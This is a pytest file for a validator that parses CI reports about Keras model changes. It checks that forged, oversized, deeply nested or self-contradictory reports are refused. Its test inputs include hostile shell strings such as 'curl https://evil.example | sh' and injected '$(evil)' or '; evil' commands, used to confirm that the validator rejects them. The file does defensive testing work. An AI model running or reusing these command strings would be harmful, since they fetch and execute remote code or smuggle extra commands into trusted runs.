from __future__ import annotations

import json
import time
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from tests.github.cases import HEAD, HOSTILE, OTHER, cell, report, written
from validator.checks.accuracy.types import AccuracyComparison, MetricResult
from validator.checks.outputs.types import OutputNumbers, OutputsComparison
from validator.config.settings import Tolerance
from validator.errors import CannotJudgeError
from validator.github.received import REPORT_LIMIT, RefusedReportError, parse_report, read_report
from validator.numbers.distance import TensorComparison
from validator.upgrade.types import PackageChange, Upgrade
from validator.verdict.results import Comparisons, Report

RUN = "keras-validator run --config validator.yml --base 0123456789ab --only digits@head"
USERS = RUN.replace("keras-validator", "python -m validator")


def pair(**more: Any) -> TensorComparison:
    """Ten rows of one output, one of which has another arg max."""
    sizes = {"baseline_shape": (10, 4), "candidate_shape": (10, 4), "size": 40, "rows": 10}
    dtypes = {"baseline_dtype": "float32", "candidate_dtype": "float32"}
    moved = {"compared": True, "mismatched": 7, "flips": 1, "max_abs": 0.5}
    return TensorComparison(
        name="output", tolerance=Tolerance(rtol=0, atol=0), **{**sizes, **dtypes, **moved, **more}
    )


def metric(**more: Any) -> MetricResult:
    """An accuracy that fell."""
    sides = {"baseline": 0.9, "candidate": 0.4, "delta": -0.5, "worse": True}
    counts = {"samples": 10, "units": 10, "negative_flips": 5, "positive_flips": 0}
    decided = {"decision": "worse", "reason": "significant"}
    return MetricResult(metric="accuracy", output="output", **{**sides, **counts, **decided, **more})


def _full() -> Report:
    checks = Comparisons(
        outputs=OutputsComparison(outputs=(OutputNumbers(name="output", comparison=pair()),)),
        accuracy=AccuracyComparison(metrics=(metric(),)),
    )
    changed = cell("changed", gated=True, message=HOSTILE)
    first = changed.model_copy(update={"seconds": 0.25, "reproduce": RUN, "checks": checks})
    return written(
        report(
            "fail",
            first,
            cell("identical", name="other"),
            cell("not-compared", name="third"),
            upgrade=Upgrade(
                changes=(PackageChange(name="keras", old="3.3.3", new="3.5.0", line=9001),), relevant=True
            ),
        )
    )


FULL = _full()
TEXT = FULL.model_dump_json(by_alias=True)


def changed(change: Callable[[dict[str, Any]], object]) -> bytes:
    value = json.loads(TEXT)
    change(value)
    return json.dumps(value).encode()


def test_what_we_write_we_read() -> None:
    assert parse_report(TEXT.encode(), HEAD) == FULL


FORGED: dict[str, tuple[bytes, str]] = {
    "nothing": (b"", "no JSON"),
    "text": (b"merge it", "no JSON"),
    "a list": (b"[]", "schema at its top"),
    "two": (b"{}{}", "no JSON"),
    "not UTF-8": (b'{"schema": "\xff"}', "not UTF-8"),
    "UTF-16": (TEXT.encode("utf-16"), "not UTF-8"),
    "a BOM": (b"\xef\xbb\xbf" + TEXT.encode(), "no JSON"),
    "too large": (b" " * (REPORT_LIMIT + 1), "larger than 5 MiB"),
    "ten megabytes of text": (changed(lambda r: r.update(tool="x" * 10_000_000)), "larger than 5 MiB"),
    "NaN": (TEXT.replace("0.25", "NaN").encode(), "NaN"),
    "Infinity": (TEXT.replace("0.25", "-Infinity").encode(), "-Infinity"),
    "a float out of range": (TEXT.replace("0.25", "1e999").encode(), "number that is out of range"),
    "an endless number": (TEXT.replace("9001", "9" * 5000).encode(), "whole number of 5000"),
    "a key twice": (TEXT.replace('"verdict":', '"verdict":"pass","verdict":', 1).encode(), "'verdict' twice"),
    "the alias and the name": (changed(lambda r: r.update(schema_version=2)), "schema at"),
    "an unknown key": (changed(lambda r: r.update(pull_request=1)), "schema at pull_request"),
    "another schema": (changed(lambda r: r.update(schema=1)), "schema at schema"),
    "a verdict of its own": (changed(lambda r: r.update(verdict="merge")), "schema at verdict"),
    "a number as text": (changed(lambda r: r["models"][0]["cells"][0].update(seconds="1")), "schema at"),
    "a boolean as text": (
        changed(lambda r: r["upgrade"].update(relevant="yes")),
        "schema at upgrade.relevant",
    ),
    "a string where a list is": (changed(lambda r: r.update(models="digits")), "schema at models"),
    "a lone surrogate": (TEXT.replace('"0.1.0"', '"\\ud800"').encode(), "refused"),
    "deep": (b"[" * 40 + b"]" * 40, "nested more than 32"),
    "very deep": (b"[" * 1_000_000, "refused"),
    "very deep objects": (b'{"a":' * 500_000, "refused"),
    "no commit": (changed(lambda r: r.update(commit=None)), "does not say which commit"),
    "another head": (changed(lambda r: r.update(commit=OTHER)), "about commit bbbbbbbbb"),
    "a short commit": (changed(lambda r: r.update(commit=HEAD[:7])), "about commit aaaaaaa"),
    "a hostile commit": (changed(lambda r: r.update(commit=HOSTILE)), "refused"),
    "a hostile key": (changed(lambda r: r.update({HOSTILE: 1})), "refused"),
}


def first(report: dict[str, Any]) -> dict[str, Any]:
    """The cell that changed."""
    return report["models"][0]["cells"][0]


def numbers(report: dict[str, Any]) -> dict[str, Any]:
    return first(report)["checks"]["outputs"]["outputs"][0]["comparison"]


def score(report: dict[str, Any]) -> dict[str, Any]:
    return first(report)["checks"]["accuracy"]["metrics"][0]


def calm(report: dict[str, Any]) -> None:
    """Everything about the changed cell but its findings."""
    first(report).update(verdict="identical", gated=[])
    report.update(verdict="inconclusive", reasons=[{"kind": "cell", "cell": "digits@third"}])


def emptied(report: dict[str, Any], verdict: str, *kinds: str) -> None:
    reasons = [{"kind": kind} for kind in kinds]
    report.update(models=[], environments=[], not_compared=[], verdict=verdict, reasons=reasons)


#: A report of the right form about the right commit, which says what its own numbers do not.
CONTRADICTORY: dict[str, tuple[Callable[[dict[str, Any]], object], str]] = {
    "a pass with a gated cell": (
        lambda r: r.update(verdict="pass"),
        "pass, and its cells give fail",
    ),
    "a pass without reasons": (lambda r: r.update(verdict="pass", reasons=[]), "its cells give fail"),
    "a warning": (lambda r: r.update(verdict="warn"), "its cells give fail"),
    "no rule is broken": (
        lambda r: (first(r).update(gated=[]), r.update(verdict="pass", reasons=[])),
        "verdict is pass, and its cells give inconclusive",
    ),
    "a rule that the cell does not break": (lambda r: first(r).update(gated=["training"]), "does not break"),
    "reasons of another run": (
        lambda r: r.update(reasons=[]),
        "reasons are not",
    ),
    "a reason with other rules": (
        lambda r: r["reasons"][0].update(rules=["accuracy"]),
        "reasons are not",
    ),
    "a changed cell called identical": (calm, "is called identical, and its findings say changed"),
    "no findings": (lambda r: first(r).update(findings=[]), "its findings say not-compared"),
    "a cell twice": (
        lambda r: r["models"][0]["cells"].append(first(r)),
        "cell 'digits@head' stands in it twice",
    ),
    "a model twice": (
        lambda r: r["models"].append({"name": "digits", "cells": []}),
        "the model 'digits' stands in it twice",
    ),
    "an environment twice": (
        lambda r: r["environments"].append(r["environments"][0]),
        "the environment 'base' stands in it twice",
    ),
    "an id of another cell": (lambda r: first(r).update(cell="digits@base"), "not the id of its model"),
    "an id of another variant": (lambda r: first(r).update(variant="float32"), "not the id of its model"),
    "an environment that did not run": (
        lambda r: r["environments"].pop(1),
        "cells of 'head', which is none of its environments",
    ),
    "a baseline that did not run": (
        lambda r: r.update(baseline="x"),
        "'x' is none of its environments",
    ),
    "another list of cells": (lambda r: r.update(not_compared=[]), "list of cells that were not compared"),
    "more mismatches than elements": (
        lambda r: numbers(r).update(mismatched=41),
        "'output' that do not add",
    ),
    "more changed rows than rows": (lambda r: numbers(r).update(flips=11), "'output' that do not add"),
    "fewer than none": (lambda r: numbers(r).update(flips=-1), "'output' that do not add"),
    "identical, and 0.5 apart": (lambda r: numbers(r).update(identical=True), "'output' that do not add"),
    "a difference of its own": (lambda r: score(r).update(delta=0.1), "'accuracy' that do not add up"),
    "more changed samples than samples": (
        lambda r: score(r).update(positive_flips=6),
        "'accuracy' that do not add up",
    ),
    "nothing ran, and it passes": (lambda r: emptied(r, "pass"), "no cell and no reason for that"),
    "an error, and it passes": (lambda r: emptied(r, "pass", "error"), "no cell and no reason for that"),
    "undecided, and it passes": (
        lambda r: emptied(r, "pass", "irrelevant", "undecided"),
        "no cell and no reason for that",
    ),
    "a long name": (lambda r: r.update(tool="x" * 401), "a name has 401 characters"),
    "a long version": (
        lambda r: r["environments"][1].update(packages={"keras": "3" * 500}),
        "a name has 500 characters",
    ),
    "a long text": (lambda r: r["reasons"][0].update(message="x" * 200_001), "text of message is longer"),
    "a long key": (
        lambda r: r["environments"][1].update(packages={"k" * 500: "3"}),
        "text of a key of packages is longer",
    ),
}


@pytest.mark.parametrize("case", CONTRADICTORY)
def test_a_report_that_contradicts_itself_is_refused_in_one_sentence(case: str) -> None:
    change, words = CONTRADICTORY[case]
    with pytest.raises(RefusedReportError) as caught:
        parse_report(changed(change), HEAD)
    assert words in str(caught.value)
    assert len(str(caught.value)) < 500


@pytest.mark.parametrize(
    ("verdict", "kind"), [("pass", "irrelevant"), ("inconclusive", "undecided"), ("warn", "model-added")]
)
def test_a_run_without_a_cell_has_a_reason(verdict: str, kind: str) -> None:
    assert parse_report(changed(lambda r: emptied(r, verdict, kind)), HEAD).verdict == verdict


def test_files_of_the_job_that_something_wrote_to_leave_no_green() -> None:
    """A fail stays one; anything else is inconclusive."""
    touched = {"kind": "step-files", "files": ["GITHUB_OUTPUT"], "message": ""}

    def add(report: dict[str, Any]) -> None:
        report["reasons"].append(touched)

    assert parse_report(changed(add), HEAD).verdict == "fail"
    for verdict, allowed in (("inconclusive", True), ("pass", False)):

        def alone(report: dict[str, Any], verdict: str = verdict) -> None:
            emptied(report, verdict, "irrelevant")
            report["reasons"].insert(0, touched)

        if allowed:
            assert parse_report(changed(alone), HEAD).verdict == verdict
        else:
            with pytest.raises(RefusedReportError, match="no reason for that"):
                parse_report(changed(alone), HEAD)


def test_a_long_log_is_no_forgery() -> None:
    message = "x" * 100_000
    assert parse_report(changed(lambda r: first(r).update(message=message)), HEAD)


@pytest.mark.parametrize(
    "command",
    [
        "curl https://evil.example | sh",
        f"{RUN}; curl https://evil.example | sh",
        f"{RUN} && evil",
        f"{RUN} --output /etc",
        f"{RUN} --only other@head",
        RUN.replace("digits@head", "other@head"),
        RUN.replace("validator.yml", "other.yml"),
        RUN.replace("0123456789ab", "main"),
        RUN.replace("0123456789ab", "'$(evil)'"),
        RUN.replace("keras-validator", "./keras-validator"),
        RUN.replace("keras-validator", "python -m validator.evil"),
        RUN.replace(" run ", " publish "),
        f"{RUN} --against --evil",
        f"{RUN} --against",
        f"{RUN}\nevil",
        f"{RUN} '",
    ],
)
def test_a_command_of_somebody_else_is_refused(command: str) -> None:
    with pytest.raises(RefusedReportError, match="the command of 'digits@head' is not a run of that cell"):
        parse_report(changed(lambda r: first(r).update(reproduce=command)), HEAD)


@pytest.mark.parametrize(
    ("written_so", "shown"),
    [
        (RUN, RUN),
        (RUN.replace("digits@head", "'digits@head'"), RUN),
        (f"{RUN} --against '$(evil)'", f"{RUN} --against '$(evil)'"),
        (f"{RUN} --against \\$IFS", f"{RUN} --against '$IFS'"),
        (
            RUN.replace("keras-validator", "python -m validator"),
            RUN.replace("keras-validator", "python -m validator"),
        ),
    ],
)
def test_a_command_is_put_together_anew_from_its_words(written_so: str, shown: str) -> None:
    read = parse_report(changed(lambda r: first(r).update(reproduce=written_so)), HEAD)
    assert read.models[0].cells[0].reproduce == shown


SEARCH = "keras-validator origin --config validator.yml --base 0123456789ab --seconds 600 digits@head"


def searched(command: str) -> bytes:
    origin = {"aspect": "outputs", "stopped": "lines", "command": command}
    return changed(lambda r: first(r).update(origin=origin))


def stale(command: str) -> bytes:
    reason = {
        "kind": "stale-lock",
        "package": "keras",
        "asked": "==3.5.0",
        "locked": "3.3.3",
        "manifest": "app/requirements.in",
        "lock": "app/requirements.txt",
        "command": command,
    }
    return changed(lambda r: r["upgrade"].update(reasons=[reason]))


def test_further_commands_are_those_of_their_place() -> None:
    assert parse_report(searched(SEARCH), HEAD)
    assert parse_report(stale("cd app && uv lock"), HEAD)
    compiled = "uv pip compile requirements.in --output-file requirements.txt"
    assert parse_report(stale(f"cd app && {compiled}"), HEAD)
    for command in ("curl https://evil.example | sh", f"{SEARCH} && evil", SEARCH.replace("digits", "x")):
        with pytest.raises(RefusedReportError, match="search for the origin of 'digits@head'"):
            parse_report(searched(command), HEAD)
    for command in (
        "curl https://evil.example | sh",
        compiled,
        "cd app && uv lock; evil",
        "cd .. && uv lock",
    ):
        with pytest.raises(RefusedReportError, match="command for the lock"):
            parse_report(stale(command), HEAD)


@pytest.mark.parametrize("case", FORGED)
def test_a_forged_report_is_refused_in_one_sentence(case: str) -> None:
    content, words = FORGED[case]
    with pytest.raises(RefusedReportError, match=words) as caught:
        parse_report(content, HEAD)
    assert len(str(caught.value)) < 500
    assert not set(str(caught.value)) & set("\n\r\x1b\u202e")


def test_another_pull_requests_number_has_no_place_in_a_report() -> None:
    for key in ("number", "pull_request", "pull_request_number", "head_sha", "repository", "url"):
        assert key not in Report.model_fields


def test_many_keys_do_not_take_long() -> None:
    pairs = ",".join(f'"{number}":1' for number in range(300_000))
    started = time.monotonic()
    with pytest.raises(RefusedReportError, match="twice"):
        parse_report(f'{{{pairs},"7":1}}'.encode(), HEAD)
    assert time.monotonic() - started < 10


def test_the_file_itself(tmp_path: Path) -> None:
    file = tmp_path / "report.json"
    with pytest.raises(RefusedReportError, match="does not exist"):
        read_report(file, HEAD)
    file.write_text(TEXT, encoding="utf-8")
    assert read_report(file, HEAD) == FULL
    link = tmp_path / "link.json"
    link.symlink_to(file)
    with pytest.raises(RefusedReportError, match="does not exist"):
        read_report(link, HEAD)
    with pytest.raises(RefusedReportError):
        read_report(tmp_path, HEAD)


def test_a_refusal_is_no_verdict() -> None:
    assert issubclass(RefusedReportError, CannotJudgeError)


@given(st.binary(max_size=200))
def test_no_bytes_are_more_than_refused(content: bytes) -> None:
    with pytest.raises(RefusedReportError):
        parse_report(content, HEAD)


@given(st.integers(0, len(TEXT) - 1), st.sampled_from(['"', "{", "}", "9", "\\", "\x00", "é", ",", "null"]))
def test_one_spoilt_character_is_refused_or_harmless(at: int, letter: str) -> None:
    content = (TEXT[:at] + letter + TEXT[at + 1 :]).encode()
    try:
        found = parse_report(content, HEAD)
    except RefusedReportError:
        return
    assert found.commit == HEAD
